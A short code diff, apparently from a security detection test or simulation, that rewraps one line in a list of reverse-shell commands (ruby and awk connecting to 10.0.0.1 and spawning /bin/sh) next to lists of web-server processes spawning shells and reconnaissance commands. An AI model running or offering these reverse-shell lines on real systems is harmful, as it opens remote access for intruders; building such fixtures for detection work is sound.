@@ -45,7 +45,8 @@ SHELLS = [
                             'exec("/bin/sh -i");']),
     ("ruby", ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d '
                                         '2>&%d",f,f,f)']),
-    ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c} }}']),
+    ("awk", ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; '
+                    's |& getline c} }}']),
 ]
 WEB_PARENTS = [("apache2", "/usr/sbin/apache2"), ("nginx", "/usr/sbin/nginx"), ("php-fpm7.4", "/usr/sbin/php-fpm7.4")]
 WEB_CHILDREN = [("sh", ["sh", "-c", "id"]), ("whoami", ["whoami"]), ("bash", ["bash", "-i"]),
